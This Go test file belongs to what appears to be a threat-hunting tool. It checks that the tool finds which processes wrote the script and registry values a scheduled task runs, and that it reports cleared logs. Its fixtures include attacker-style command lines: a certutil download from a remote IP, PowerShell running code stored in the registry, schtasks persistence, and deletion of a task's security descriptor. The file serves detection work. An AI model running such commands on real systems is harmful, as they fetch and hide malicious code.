package dossier_test

import (
	"strings"
	"testing"

	"github.com/goshawk-hunt/goshawk/finding"
	"github.com/goshawk-hunt/goshawk/task/dossier"
)

const plantColumns = "Timestamp:datetime Last:datetime DeviceName Table What Object Value Action Account RemoteIP Data Rows:long InitiatingProcessFileName InitiatingProcessCommandLine InitiatingProcessId:long InitiatingProcessCreationTime:datetime ReportId:long"

// reading is a task whose action reads a value of the registry and a script.
const reading = `[{"Type":"Exec","Command":"powershell.exe","Arguments":"-c \"iex (gp HKCU:\\A b).b; . C:\\d\\x.ps1 > C:\\d\\y.txt\""}]`

func plantRow(at int, what, object, value, action, file string, pid, id int) []any {
	return []any{base + at, base + at, "pc1", "DeviceFileEvents", what, object, value, action, "ann", "", "", 1, file, file, pid, nil, id}
}

func TestWhoPlanted(t *testing.T) {
	const sid = "S-1-5-21-1-2-3-1104"
	q := answers{
		"events of tasks": {eventColumns + " AccountSid", [][]any{
			{base, "pc1", "ScheduledTaskCreated", `\x`, "Security", 4698, "ann", 0x77, "", "", "", "", reading, `CORP\ann`, false, nil, nil, nil, nil, 1, sid},
			{base + second, "pc1", "ScheduledTaskActionStarted", `\x`, "TaskScheduler", 200, "", nil, "", "r", "powershell.exe", "", nil, "", nil, nil, 400, nil, nil, 2, ""},
			{base + 900*second, "pc1", "ScheduledTaskDeleted", `\x`, "Security", 4699, "ann", 0x77, "", "", "", "", nil, "", nil, nil, nil, nil, nil, 3, sid},
		}},
		"writers of what actions name": {plantColumns, [][]any{
			plantRow(5, "registry", `HKEY_USERS\`+sid+`\A`, "b", "Wrote", "own.exe", 10, 11),
			plantRow(5, "registry", `HKEY_USERS\S-1-5-21-1-2-3-500\A`, "b", "Wrote", "other.exe", 11, 12),
			plantRow(5, "registry", `HKEY_USERS\`+sid+`\A`, "c", "Wrote", "value.exe", 12, 13),
			plantRow(-3*second, "file", `C:\D\x.ps1`, "", "Wrote", "drop.exe", 13, 14),
			plantRow(2*second, "file", `C:\D\x.ps1`, "", "Wrote", "powershell.exe", 400, 15), // the task's own process
			plantRow(890*second, "file", `C:\D\x.ps1`, "", "Deleted", "clean.exe", 14, 16),
			plantRow(9000*second, "file", `C:\D\x.ps1`, "", "Wrote", "later.exe", 15, 17), // when the task was no more
			plantRow(1, "file", `C:\D\other.ps1`, "", "Wrote", "elsewhere.exe", 16, 18),
		}},
	}
	f := &finding.Finding{Devices: []string{"pc1"}, Task: &finding.Task{Name: `\x`}}
	d := gather(t, q, f, "process", "taskscheduler", "security-task", "file", "registry")
	for _, want := range []struct{ from, verb, why string }{
		{"own.exe", `wrote the registry value HKEY_USERS\` + sid + `\A\b, named by an action of`, "in the second in which the task was created"},
		{"drop.exe", `wrote C:\D\x.ps1, named by an action of`, "3 s before the task was created"},
		{"clean.exe", `deleted C:\D\x.ps1, named by an action of`, "14 min 50 s after"},
	} {
		e := edge(d, want.from, want.verb, `\x`)
		if e == nil || e.Confidence != finding.Certain || !strings.Contains(e.Why, want.why) || len(e.Proof) != 1 {
			t.Errorf("%s %s: %+v", want.from, want.verb, e)
		}
	}
	planters := 0
	for i := range d.Edges {
		if d.Edges[i].Object != "" {
			planters++
		}
	}
	if planters != 3 {
		t.Errorf("%d statements of who wrote what the action names, want 3: %+v", planters, d.Edges)
	}
	for _, g := range d.Gaps {
		if strings.Contains(g.Text, "who wrote") {
			t.Errorf("a gap though it is known: %s", g.Text)
		}
	}
	told := false
	for _, m := range f.Timeline {
		told = told || strings.HasPrefix(m.What, `drop.exe wrote C:\D\x.ps1`)
	}
	if !told {
		t.Errorf("the timeline does not say who wrote the script: %+v", f.Timeline)
	}
}

func TestNobodyIsKnownToHavePlanted(t *testing.T) {
	f := func() *finding.Finding {
		return &finding.Finding{Devices: []string{"pc1"}, Task: &finding.Task{Name: `\x`, Actions: dossier.Actions(reading)}}
	}
	for _, tt := range []struct {
		kinds []string
		want  []string
	}{
		{nil, []string{`who wrote c:\d\x.ps1, which its action names, is not known: no events of files`, `who wrote HKCU:\A\b, which its action names, is not known: no events of the registry`}},
		{[]string{"file"}, []string{"the events of files tell nothing of it", "no events of the registry"}},
	} {
		var all strings.Builder
		for _, g := range gather(t, answers{}, f(), tt.kinds...).Gaps {
			all.WriteString(g.Text + "\n")
		}
		for _, want := range tt.want {
			if !strings.Contains(all.String(), want) {
				t.Errorf("with %v no gap says %q:\n%s", tt.kinds, want, all.String())
			}
		}
		if strings.Contains(all.String(), "y.txt") {
			t.Error("where the action sends its output is nothing that it reads")
		}
	}
}

// TestAClearedLog: what the log held before it was cleared is lost, and that is told.
func TestAClearedLog(t *testing.T) {
	for _, tt := range []struct {
		at   int // of the clearing
		want string
		not  string
	}{
		{-4 * second, "was cleared by eve at 2024-05-14T09:59:56.0000000Z, 4 s before its creation", ""},
		{4 * second, "", "was cleared"}, // what was before the creation was not in it
	} {
		q, f := remote()
		q["clearings of logs"] = answer{"Timestamp:datetime DeviceName AccountName ReportId:long", [][]any{{base + tt.at, "pc1", "eve", 9}}}
		var all strings.Builder
		for _, g := range gather(t, q, f, "process", "taskscheduler", "security-task").Gaps {
			all.WriteString(g.Text + "\n")
		}
		if !strings.Contains(all.String(), tt.want) || tt.not != "" && strings.Contains(all.String(), tt.not) {
			t.Errorf("cleared at %d: %s", tt.at, all.String())
		}
	}
}

// TestWhoNamedTheSame: where only processes are logged, one whose command line names what
// the action names may have put it there; the task's own, and the one that asks for the
// task, are no such.
func TestWhoNamedTheSame(t *testing.T) {
	row := func(at int, file, line string, pid int) []any {
		return []any{base + at, "pc1", "ann", file, line, pid, base + at, 0x77, "explorer.exe", "explorer.exe", 9, nil, pid}
	}
	q := answers{
		"events of tasks": {eventColumns, [][]any{{base, "pc1", "ScheduledTaskCreated", `\x`, "Security", 4698, "ann", 0x77, "", "", "", "", reading, `ann`, false, nil, nil, nil, nil, 1}}},
		"command lines that name the same": {processColumns, [][]any{
			row(-9*second, "certutil.exe", `certutil -urlcache -f http://192.0.2.1/x C:\d\x.ps1`, 31),
			row(-8*second, "reg.exe", `reg add HKCU\A /v b /d 1`, 32),
			row(-7*second, "reg.exe", `reg add HKCU\A /v c /d 1`, 33),
			row(-6*second, "notepad.exe", `notepad C:\e\x.ps1`, 34),
			row(-5*second, "schtasks.exe", `schtasks /create /tn x /tr "C:\d\x.ps1"`, 35),
			row(9*second, "powershell.exe", `powershell.exe -c "iex (gp HKCU:\A b).b; . C:\d\x.ps1 > C:\d\y.txt"`, 36),
		}},
	}
	d := gather(t, q, &finding.Finding{Devices: []string{"pc1"}, Task: &finding.Task{Name: `\x`}}, "process", "security-task")
	var got []string
	for i := range d.Edges {
		if e := &d.Edges[i]; strings.HasPrefix(e.Verb, "named ") {
			got = append(got, d.Nodes[e.From].Label+" "+e.Verb+" "+string(e.Confidence))
		}
	}
	want := []string{`certutil.exe named c:\d\x.ps1 in its command line, as does an action of possible`, `reg.exe named HKCU\A in its command line, as does an action of possible`}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got %q, want %q", got, want)
	}
}

// TestAWriterDidNotAsk: a process that itself wrote the task's registry entries is told by
// that, and not as one who asked for the task.
func TestAWriterDidNotAsk(t *testing.T) {
	q := answers{
		"processes": {processColumns, [][]any{{base, "pc1", "ann", "reg.exe", `reg delete "HKLM\..\TaskCache\Tree\x" /v SD /f`, 50, base, 0x77, "cmd.exe", "cmd.exe", 9, nil, 1}}},
		"writers of tasks": {"Timestamp:datetime DeviceName TaskPath What ActionType Rows:long Names:dynamic InitiatingProcessFileName InitiatingProcessId:long InitiatingProcessCreationTime:datetime ReportId:long",
			[][]any{{base + 5, "pc1", `\x`, "registry entries", "Deleted", 1, `["SD"]`, "reg.exe", 50, base, 2}}},
	}
	f := &finding.Finding{Devices: []string{"pc1"}, Task: &finding.Task{Name: `\x`}, Processes: []finding.Process{{Role: dossier.RoleCreator, Device: "pc1", PID: 50, FileName: "reg.exe"}}}
	d := gather(t, q, f, "process", "registry")
	if e := edge(d, "reg.exe", "asked for", `\x`); e != nil {
		t.Errorf("reg.exe asked for the task: %+v", e)
	}
	if e := edge(d, "reg.exe", "deleted SD in the registry of", `\x`); e == nil {
		t.Errorf("nobody deleted the security descriptor: %+v", d.Edges)
	}
}
